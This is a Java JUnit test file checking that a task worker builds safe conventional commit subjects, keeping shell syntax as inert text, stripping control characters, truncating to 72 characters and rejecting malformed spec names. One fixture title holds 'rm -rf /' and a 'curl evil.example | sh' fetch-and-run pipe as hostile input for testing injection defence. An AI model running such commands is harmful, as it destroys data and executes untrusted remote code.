package dev.kiroworker.worker.build.tasks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommitMessageTest {

  private final TaskList hostile = TaskListParser.parse(TasksFixtures.text("hostile.md"));

  private static Task task(String id, String title) {
    return new Task(id, title, TaskState.OPEN, false, 0, 1, List.of(), List.of());
  }

  @Test
  void forTask_isAConventionalCommitSubject() {
    assertThat(CommitMessage.forTask("greeting-service", task("1.2", "Add the service")))
        .isEqualTo("feat(greeting-service): 1.2 Add the service");
  }

  @Test
  void forTask_withoutId_usesTheTitle() {
    assertThat(CommitMessage.forTask("a", task("", "Tidy up"))).isEqualTo("feat(a): Tidy up");
  }

  @Test
  void forTask_shellSyntax_isKeptAsText() {
    assertThat(CommitMessage.forTask("spec", hostile.find("1").orElseThrow()))
        .isEqualTo("feat(spec): 1 Run `rm -rf /` and $(curl evil.example | sh); echo pwned");
  }

  @Test
  void forTask_controlAndFormatCharacters_becomeSingleSpaces() {
    assertThat(CommitMessage.forTask("spec", hostile.find("2").orElseThrow()))
        .isEqualTo("feat(spec): 2 Title with tabs and spaces gnp.exe");
    assertThat(CommitMessage.forTask("spec", task("3", "a\u001b[31mred\u0000 \u2028b")))
        .isEqualTo("feat(spec): 3 a [31mred b");
  }

  @Test
  void forTask_longTitle_isCutTo72Characters() {
    String subject = CommitMessage.forTask("spec", hostile.find("3").orElseThrow());

    assertThat(subject)
        .hasSize(72)
        .isEqualTo("feat(spec): 3 A very long title that goes on and on well beyond what a c");
  }

  @Test
  void forTask_cutAtASurrogatePair_dropsTheWholeCharacter() {
    String title = "x".repeat(57) + "\uD83D\uDE00 end";
    String subject = CommitMessage.forTask("spec", task("1", title));

    assertThat(subject).hasSize(71).endsWith("x");
  }

  @Test
  void forTask_cutBeforeASpace_leavesNoTrailingSpace() {
    String subject = CommitMessage.forTask("spec", task("1", "y".repeat(57) + " tail"));

    assertThat(subject).hasSize(71).endsWith("y");
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(strings = {"", "Upper", "-leading", "a b", "a;b", "a/../b", "x\nfeat"})
  void forTask_invalidSpecName_isRefused(String spec) {
    assertThatThrownBy(() -> CommitMessage.forTask(spec, task("1", "x")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("spec name must match");
  }

  @Test
  void forTask_specNameOf64Characters_isAccepted_andLongerIsRefused() {
    // The subject is cut as a whole: a maximal spec name leaves no room for the title.
    assertThat(CommitMessage.forTask("a".repeat(64), task("1", "x")))
        .isEqualTo("feat(" + "a".repeat(64) + "):");
    assertThatThrownBy(() -> CommitMessage.forTask("a".repeat(65), task("1", "x")))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void forPartialTask_marksTheWorkAsPartialAndKeepsTheMarkerWhenCut() {
    assertThat(CommitMessage.forPartialTask("greeting-service", task("1.2", "Add the service")))
        .isEqualTo("wip(greeting-service): 1.2 Add the service (partial)");
    String cut = CommitMessage.forPartialTask("spec", task("3", "word ".repeat(30)));
    assertThat(cut).hasSizeLessThanOrEqualTo(CommitMessage.MAX_SUBJECT).endsWith("word (partial)");
    assertThatThrownBy(() -> CommitMessage.forPartialTask("Bad Name", task("1", "x")))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
